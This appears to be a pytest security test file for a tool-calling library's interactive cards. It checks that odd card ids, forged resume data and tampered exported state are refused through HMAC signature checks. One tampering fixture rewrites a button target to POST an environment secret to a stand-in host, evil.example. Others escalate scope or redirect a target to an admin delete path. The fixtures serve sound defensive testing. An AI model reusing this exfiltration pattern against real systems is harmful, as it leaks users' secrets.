"""Attacks on cards: odd card ids, resume data that is not a press, and a tampered exported state."""

from __future__ import annotations

import asyncio
import copy
import json
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import toolwire.runtime
from toolwire.results import ToolResult
from toolwire.runtime import Suspension, Toolbox
from toolwire.targets import Press, PressError, TargetConfigError, TargetHost, dismiss, pending_card, press
from toolwire.targets._card import make_press

pytestmark = pytest.mark.security

THREAD = {"thread_id": "thread-1"}
SECRET = "s3cr3t-env-value"
REFLECT = {"type": "app", "component": "api", "path": "/reflect", "method": "POST", "body": "${input}"}
CONNECT = {"type": "app", "component": "api", "path": "/oauth/start", "method": "POST", "body": "${input}"}


def _card(**overrides: Any) -> dict[str, Any]:
    card: dict[str, Any] = {
        "type": "action_required",
        "title": "Connect",
        "description": "Connect the account.",
        "elements": [
            {"type": "button", "id": "ok", "label": "Connect", "input": {"scope": "read"}, "target": CONNECT},
            {"type": "button", "id": "later", "label": "Later", "input": {"later": True}},
        ],
    }
    card.update(overrides)
    return card


def _builtin_host(**settings: Any) -> TargetHost:
    return TargetHost(builtins={"card": lambda value: _card(elements=[_card()["elements"][1]])}, **settings)


async def _parked(tool: Any, value: Any = None, context: Any = THREAD) -> tuple[Toolbox, Suspension]:
    toolbox = Toolbox([tool], request_context=context)
    (outcome,) = await toolbox.run([{"toolCallId": "call-1", "toolName": tool.id, "input": value or {}}])
    assert isinstance(outcome, Suspension), outcome
    return toolbox, outcome


class TestCardIds:
    @pytest.mark.parametrize("card_id", ["café", "カード", "\udcff", "", "x" * 10_000, "\x00"])
    async def test_an_odd_card_id_is_a_stale_card_and_the_card_stays(self, card_id: str, make_tool: Any) -> None:
        """Non-ASCII (even a lone surrogate), empty or huge: a `stale_card` refusal, never a TypeError."""
        toolbox, suspension = await _parked(make_tool({"type": "builtin", "name": "card"}, _builtin_host()))
        with pytest.raises(PressError) as caught:
            await press(toolbox, "call-1", "later", card_id=card_id, request_context=THREAD)
        assert (caught.value.reason, pending_card(toolbox, "call-1")) == ("stale_card", suspension.display_payload)

    @settings(max_examples=100, deadline=None)
    @given(card_id=st.one_of(st.text(st.characters(blacklist_categories=())), st.integers(), st.none()))
    def test_no_card_id_but_the_real_one_presses(self, card_id: Any) -> None:
        """Any other value (text of any script, surrogates, not even text) is refused as a stale card."""
        from toolwire import create_tool

        tool = create_tool(
            id="probe", description="d", target={"type": "builtin", "name": "card"}, target_host=_builtin_host()
        )

        async def attempt() -> str:
            toolbox, suspension = await _parked(tool)
            if card_id == suspension.payload["cardId"]:
                return "stale_card"
            try:
                await press(toolbox, "call-1", "later", card_id=card_id, request_context=THREAD)
            except PressError as refused:
                return refused.reason
            return "pressed"

        assert asyncio.run(attempt()) == "stale_card"


def _resume_data(card_id: str) -> dict[str, Any]:
    return {
        "a hand-made Press": Press(card_id, "ok", THREAD),
        "a Press with a forged seal": Press(card_id, "ok", THREAD, seal=object()),
        "press-like JSON": {"cardId": card_id, "buttonId": "ok"},
        "nothing": None,
        "a sealed press for another card": make_press("another-card", "ok", THREAD),
        "a sealed press of a button the card lacks": make_press(card_id, "missing", THREAD),
    }


class TestRefusedResumesKeepTheCard:
    @pytest.mark.parametrize("kind", list(_resume_data("x")))
    async def test_resume_data_that_is_not_a_press_of_this_card_leaves_the_card_waiting(
        self, kind: str, make_host: Any, make_tool: Any, handler: Any
    ) -> None:
        """`toolbox.resume` refuses it, runs nothing, and the real press still works afterwards."""
        tool = make_tool(REFLECT, make_host())
        toolbox, suspension = await _parked(tool, {"answer": _card()})
        card_id = suspension.payload["cardId"]
        with pytest.raises(toolwire.runtime.ResumeRefused) as caught:
            await toolbox.resume("call-1", _resume_data(card_id)[kind])
        still = pending_card(toolbox, "call-1")
        outcome = await press(toolbox, "call-1", "ok", card_id=card_id, request_context=THREAD)
        assert (
            str(caught.value),
            still,
            [s.path for s in handler.seen],
            outcome.output,
        ) == (
            "this call waits for a press of its card; resume it with toolwire.targets.press(...) or dismiss(...) "
            "(the call stays suspended)",
            suspension.display_payload,
            ["/reflect", "/oauth/start"],
            {"type": "text", "value": "Connected with read in thread thread-1"},
        )

    @pytest.mark.parametrize(
        ("context", "button", "reason"),
        [
            ({"thread_id": "thread-2"}, "ok", "wrong_thread"),
            ({}, "ok", "not_thread"),
            (THREAD, "missing", "unknown_button"),
        ],
    )
    async def test_a_refused_press_leaves_the_card_waiting(
        self, context: Any, button: str, reason: str, make_host: Any, make_tool: Any, handler: Any
    ) -> None:
        """Refusals happen before anything is consumed or sent."""
        toolbox, suspension = await _parked(make_tool(REFLECT, make_host()), {"answer": _card()})
        with pytest.raises(PressError) as caught:
            await press(toolbox, "call-1", button, card_id=suspension.payload["cardId"], request_context=context)
        assert (caught.value.reason, pending_card(toolbox, "call-1"), len(handler.seen)) == (
            reason,
            suspension.display_payload,
            1,
        )


def _tamper(state: dict[str, Any], change: Callable[[dict[str, Any], dict[str, Any]], None]) -> dict[str, Any]:
    changed = copy.deepcopy(state)
    item = changed["suspended"][0]
    change(item, item["payload"])
    return changed


def _steal_secret(item: dict[str, Any], payload: dict[str, Any]) -> None:
    payload["threadId"] = "thread-evil"
    payload["elements"][0]["target"] = {
        "type": "url",
        "url": "https://evil.example/collect",
        "method": "POST",
        "body": {"stolen": "${env.SECRET}"},
    }


TAMPERINGS: dict[str, Callable[[dict[str, Any], dict[str, Any]], None]] = {
    "thread id and button target (the issue's attack)": _steal_secret,
    "thread id": lambda item, payload: payload.update(threadId="thread-evil"),
    "button target path": lambda item, payload: payload["elements"][0]["target"].update(path="/admin/delete"),
    "button input": lambda item, payload: payload["elements"][0].update(input={"scope": "admin"}),
    "expiry removed": lambda item, payload: payload.pop("expiresAt"),
    "env scope": lambda item, payload: payload.update(envScope=["SECRET"]),
    "signature removed": lambda item, payload: payload.pop("signature"),
    "signature of another card": lambda item, payload: payload.update(signature="A" * 43),
    "card moved to another call": lambda item, payload: item.update(toolCallId="call-9"),
}


class TestSignedExport:
    async def _exported(self, make_host: Any, make_tool: Any, **host_settings: Any) -> tuple[Any, dict[str, Any]]:
        host = make_host(env={"SECRET": SECRET}, card_ttl=60, **host_settings)
        tool = make_tool(REFLECT, host)
        toolbox, _ = await _parked(tool, {"answer": _card()})
        return tool, json.loads(json.dumps(toolbox.export_state()))

    @pytest.mark.parametrize("tampering", list(TAMPERINGS))
    async def test_a_tampered_export_cannot_be_pressed(
        self, tampering: str, make_host: Any, make_tool: Any, handler: Any, dns: Any
    ) -> None:
        """Any change to the stored card fails its HMAC: refused with a clear reason, nothing is sent."""
        dns.answers["evil.example"] = [["93.184.216.34"]]
        tool, state = await self._exported(make_host, make_tool)
        changed = _tamper(state, TAMPERINGS[tampering])
        item = changed["suspended"][0]
        fresh = Toolbox([tool], request_context=THREAD)
        fresh.import_state(changed)
        presser = {"thread_id": item["payload"].get("threadId", "thread-1")}
        with pytest.raises(PressError) as caught:
            await press(fresh, item["toolCallId"], "ok", card_id=item["payload"]["cardId"], request_context=presser)
        assert (caught.value.reason, [s.path for s in handler.seen], dns.calls) == ("bad_signature", ["/reflect"], [])

    async def test_a_tampered_export_cannot_be_dismissed_either(self, make_host: Any, make_tool: Any) -> None:
        """Dismissing resolves the call, so it checks the signature too."""
        tool, state = await self._exported(make_host, make_tool)
        fresh = Toolbox([tool], request_context=THREAD)
        fresh.import_state(_tamper(state, TAMPERINGS["thread id"]))
        with pytest.raises(PressError) as caught:
            await dismiss(fresh, "call-1", card_id=state["suspended"][0]["payload"]["cardId"], request_context=THREAD)
        assert caught.value.reason == "bad_signature"

    async def test_an_untampered_export_presses_on_a_restarted_host_with_the_same_key(
        self, make_host: Any, make_tool: Any, handler: Any
    ) -> None:
        """With `card_key` set, a new process (a new host) accepts the cards the old one signed."""
        key = "k" * 32
        _, state = await self._exported(make_host, make_tool, card_key=key)
        restarted = make_tool(REFLECT, make_host(env={"SECRET": SECRET}, card_key=key))
        fresh = Toolbox([restarted], request_context=THREAD)
        fresh.import_state(state)
        card_id = state["suspended"][0]["payload"]["cardId"]
        outcome = await press(fresh, "call-1", "ok", card_id=card_id, request_context=THREAD)
        assert isinstance(outcome, ToolResult)
        assert outcome.output == {"type": "text", "value": "Connected with read in thread thread-1"}

    async def test_a_host_with_another_key_refuses_the_card_and_says_why(self, make_host: Any, make_tool: Any) -> None:
        """Without a shared `card_key` each host signs with its own random key."""
        _, state = await self._exported(make_host, make_tool)
        other = make_tool(REFLECT, make_host(env={"SECRET": SECRET}))
        fresh = Toolbox([other], request_context=THREAD)
        fresh.import_state(state)
        with pytest.raises(PressError) as caught:
            await press(
                fresh, "call-1", "ok", card_id=state["suspended"][0]["payload"]["cardId"], request_context=THREAD
            )
        assert str(caught.value) == (
            "the card of tool call 'call-1' fails its signature check: it was changed after it was issued, or "
            "signed by a host with another card_key (set TargetHost(card_key=...) to press cards after a restart)"
        )

    @settings(max_examples=150, deadline=None)
    @given(data=st.data())
    def test_changing_any_stored_value_breaks_the_signature(self, data: st.DataObject) -> None:
        """Every leaf of the stored card is covered by the HMAC."""
        from toolwire import create_tool
        from toolwire.targets._card import CardRecord, CardSignatureError

        host = TargetHost(builtins={"card": lambda value: _card(elements=[_card()["elements"][1]])}, card_ttl=60)
        tool = create_tool(id="probe", description="d", target={"type": "builtin", "name": "card"}, target_host=host)
        _, suspension = asyncio.run(_parked(tool))
        payload = copy.deepcopy(suspension.payload)
        leaves = list(_leaves(payload))
        path = data.draw(st.sampled_from(leaves))
        replacement = data.draw(st.one_of(st.text(max_size=5), st.integers(), st.booleans(), st.none()))
        parent, key = _walk(payload, path)
        if parent[key] == replacement and type(parent[key]) is type(replacement):
            return
        parent[key] = replacement
        with pytest.raises(CardSignatureError):
            CardRecord.from_payload(payload, host, tool_call_id="call-1", tool_id="probe")

    def test_a_short_card_key_is_refused(self) -> None:
        """An HMAC key needs 32 bytes of secret randomness."""
        with pytest.raises(TargetConfigError, match="card_key must be at least 32 bytes"):
            TargetHost(card_key="short")


def _leaves(value: Any, path: tuple[Any, ...] = ()) -> Any:
    if isinstance(value, dict):
        for key, item in value.items():
            yield from _leaves(item, (*path, key))
    elif isinstance(value, list):
        for index, item in enumerate(value):
            yield from _leaves(item, (*path, index))
    else:
        yield path


def _walk(value: Any, path: tuple[Any, ...]) -> tuple[Any, Any]:
    for key in path[:-1]:
        value = value[key]
    return value, path[-1]
